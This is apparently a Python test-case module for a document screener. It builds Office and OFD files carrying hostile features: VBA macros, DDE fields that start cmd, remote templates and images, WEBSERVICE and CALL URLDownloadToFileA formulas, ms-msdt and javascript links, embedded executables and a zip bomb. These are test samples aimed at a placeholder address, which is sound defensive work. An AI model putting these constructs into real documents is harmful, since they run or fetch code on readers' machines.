"""Office and OFD files that would run, start or fetch something on the reader's machine."""

from tests.foundation.screening.hostile.cases import Cases
from tests.foundation.screening.ordinary import OFD_NAMESPACE, changed, member, ofd, package, sheet, slides, word

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def related(base, part, kind, target, mode=' TargetMode="External"'):
    """Add a relationship of a part."""
    text = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId77" Type="{RELATION}{kind}" Target="{target}"{mode}/></Relationships>'
    )
    return changed(base, {part: text})


def word_to(kind, target, mode=' TargetMode="External"'):
    """A Word file with a relationship of its main part."""
    return related(word(), "word/_rels/document.xml.rels", kind, target, mode)


def field(*instructions):
    """A Word file with one field, its instruction in several runs."""
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    return changed(word(), {"word/footnotes.xml": f"<w:footnotes {space}><w:p>{runs}</w:p></w:footnotes>"})


def simple_field(text):
    """A Word file with a field in an attribute."""
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return changed(word(), {"word/header9.xml": f'<w:hdr {space}><w:p><w:fldSimple w:instr="{text}"/></w:p></w:hdr>'})


def formula(text):
    """A workbook with one formula."""
    return sheet(((1, text),))


def typed(base, old, new):
    """Say another type of content."""
    types = member(base, "[Content_Types].xml")
    assert old in types
    return changed(base, {"[Content_Types].xml": types.replace(old, new)})


def named(attributes):
    """A workbook with a defined name."""
    book = member(sheet(), "xl/workbook.xml")
    names = f"<definedNames><definedName name='a' {attributes}>1</definedName></definedNames></workbook>"
    return changed(sheet(), {"xl/workbook.xml": book.replace("<definedNames />", "").replace("</workbook>", names)})


def ofd_action(inner):
    """An OFD with an action."""
    return ofd(
        extra={"Doc_0/Document.xml": f"<ofd:Document {OFD_NAMESPACE}><ofd:Action>{inner}</ofd:Action></ofd:Document>"}
    )


MAIN = "wordprocessingml.document.main+xml"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DDE = '<externalLink xmlns:r="r"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'

CASES: Cases = {
    "VBA in Word": ("docx", lambda: changed(word(), {"word/vbaProject.bin": OLE}), "macro"),
    "VBA in Excel": ("xlsx", lambda: changed(sheet(), {"xl/vbaProject.bin": OLE}), "macro"),
    "VBA in slides": ("pptx", lambda: changed(slides(), {"ppt/vbaProject.bin": OLE}), "macro"),
    "VBA under another name": ("docx", lambda: word_to("vbaProject", "media/a.png", ""), "macro"),
    "a docm called docx": (
        "docx",
        lambda: typed(word(), f"application/vnd.openxmlformats-officedocument.{MAIN}", DOCM),
        "macro",
    ),
    "an xlsm called xlsx": (
        "xlsx",
        lambda: typed(sheet(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", XLSM),
        "macro",
    ),
    "a sheet of the old macro language": (
        "xlsx",
        lambda: changed(sheet(), {"xl/macrosheets/sheet1.xml": "<x/>"}),
        "macro",
    ),
    "an old macro name": ("xlsx", lambda: named("xlm='1'"), "macro"),
    "an xlsx called docx": ("docx", sheet, "wrong_content"),
    "a docx called pptx": ("pptx", word, "wrong_content"),
    "a zip called docx": ("docx", lambda: package({"a.txt": "x"}), "wrong_content"),
    "a zip called ofd": ("ofd", lambda: package({"a.xml": "<x/>"}), "wrong_content"),
    "a docx called ofd": ("ofd", word, "wrong_content"),
    "a jar called docx": (
        "docx",
        lambda: package({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}),
        "wrong_content",
    ),
    "an old file with a password": ("docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "an old file called docx": ("docx", lambda: OLE, "wrong_content"),
    "a template from the net": (
        "docx",
        lambda: word_to("attachedTemplate", "http://192.0.2.1/a.dotm"),
        "external_link",
    ),
    "a template from a share": (
        "docx",
        lambda: word_to("attachedTemplate", "file://192.0.2.1/a.dotm"),
        "external_link",
    ),
    "a template from a share, again": (
        "docx",
        lambda: word_to("attachedTemplate", r"\\192.0.2.1\a\b.dotm"),
        "external_link",
    ),
    "a picture from the net": ("docx", lambda: word_to("image", "https://192.0.2.1/a.png"), "external_link"),
    "a picture on a share": (
        "pptx",
        lambda: related(slides(), "ppt/slides/_rels/slide1.xml.rels", "image", "//192.0.2.1/a"),
        "external_link",
    ),
    "a frame from the net": ("docx", lambda: word_to("frame", "http://192.0.2.1/"), "external_link"),
    "an object from the net": ("docx", lambda: word_to("oleObject", "http://192.0.2.1/a.doc"), "external_link"),
    "a link that runs a script": ("docx", lambda: word_to("hyperlink", "javascript:alert(1)"), "external_link"),
    "a link to a tool of Windows": ("docx", lambda: word_to("hyperlink", "ms-msdt:/id x"), "external_link"),
    "an html object": (
        "docx",
        lambda: word_to("oleObject", "mhtml:http://192.0.2.1/x!x-usc:http://a"),
        "external_link",
    ),
    "a page as part": ("docx", lambda: word_to("aFChunk", "a.htm", ""), "embedded_object"),
    "an object inside": ("docx", lambda: changed(word(), {"word/embeddings/oleObject1.bin": OLE}), "embedded_object"),
    "a program as object": (
        "docx",
        lambda: changed(word(), {"word/embeddings/a.exe": b"MZ" + bytes(99)}),
        "embedded_object",
    ),
    "an object among pictures": ("pptx", lambda: changed(slides(), {"ppt/media/a.bin": OLE}), "embedded_object"),
    "a control": ("docx", lambda: changed(word(), {"word/activeX/activeX1.xml": "<x/>"}), "embedded_object"),
    "a macro behind a chart": (
        "docx",
        lambda: changed(word(), {"word/embeddings/a.xlsx": changed(sheet(), {"xl/vbaProject.bin": OLE})}),
        "macro",
    ),
    "a workbook in a workbook in a file": (
        "docx",
        lambda: changed(word(), {"word/embeddings/a.xlsx": changed(sheet(), {"xl/embeddings/b.xlsx": sheet()})}),
        "embedded_object",
    ),
    "a bomb behind a chart": (
        "docx",
        lambda: changed(word(), {"word/embeddings/a.xlsx": changed(sheet(), {"xl/a.bin": bytes(150 << 20)})}),
        "zip_ratio",
    ),
    "a data connection": ("xlsx", lambda: changed(sheet(), {"xl/connections.xml": "<connections/>"}), "external_link"),
    "a DDE field": ("docx", lambda: field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'), "dde"),
    "a DDE field in pieces": ("docx", lambda: field("D", "DE", 'AUTO cmd "/k calc"'), "dde"),
    "a DDE field in an attribute": ("docx", lambda: simple_field("DDE cmd calc"), "dde"),
    "a DDE field in numbers": ("docx", lambda: field("QUOTE 68 68 69 65 85 84 79"), "dde"),
    "a field that fetches": ("docx", lambda: field('INCLUDEPICTURE "http://192.0.2.1/a.png" \\d'), "external_link"),
    "a DDE formula": ("xlsx", lambda: formula("=cmd|'/c calc'!A0"), "dde"),
    "a DDE link": ("xlsx", lambda: changed(sheet(), {"xl/externalLinks/externalLink1.xml": DDE}), "dde"),
    "a formula that fetches": ("xlsx", lambda: formula('=WEBSERVICE("http://192.0.2.1/"&A1)'), "external_link"),
    "a formula that calls": ("xlsx", lambda: formula('=CALL("urlmon","URLDownloadToFileA")'), "external_link"),
    "a script in an OFD": ("ofd", lambda: ofd(extra={"Doc_0/a.js": "alert(1)"}), "active_content"),
    "a page in an OFD": ("ofd", lambda: ofd(extra={"Doc_0/Attachs/a.html": "<script/>"}), "active_content"),
    "a program attached to an OFD": (
        "ofd",
        lambda: ofd(extra={"Doc_0/Attachs/a.dat": b"MZ" + bytes(99)}),
        "executable",
    ),
    "an OFD that opens a share": ("ofd", lambda: ofd_action('<ofd:URI URI="file://192.0.2.1/a"/>'), "external_link"),
    "an OFD that runs a script": ("ofd", lambda: ofd_action('<ofd:URI URI="javascript:alert(1)"/>'), "external_link"),
    "an OFD that plays": ("ofd", lambda: ofd_action('<ofd:Movie ResourceID="1"/>'), "active_content"),
    "a locked OFD": ("ofd", lambda: ofd(extra={"Doc_0/Encryptions.xml": "<x/>"}), "encrypted"),
}
